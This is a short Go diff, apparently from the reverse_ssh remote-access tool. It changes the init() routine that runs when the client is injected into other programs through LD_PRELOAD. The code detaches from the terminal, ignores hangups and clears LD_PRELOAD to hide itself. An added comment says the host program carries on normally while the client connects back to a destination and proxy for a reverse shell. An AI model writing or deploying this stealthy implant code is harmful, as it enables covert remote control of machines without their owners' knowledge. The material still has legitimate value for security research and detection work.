@@ -10,11 +10,16 @@ import (
 	"github.com/NHAS/reverse_ssh/internal/client"
 )
 
+// Loaded with LD_PRELOAD the client starts as soon as the library does, in the background so the host program carries on
 func init() {
 	syscall.Setsid()
 	signal.Ignore(syscall.SIGHUP)
 	//If we're loading as a shared lib, stop our children from being polluted
 	os.Setenv("LD_PRELOAD", "")
 
-	client.Run(destination, fingerprint, "")
+	startClient()
+}
+
+func runShared() {
+	client.Run(destination, fingerprint, proxy)
 }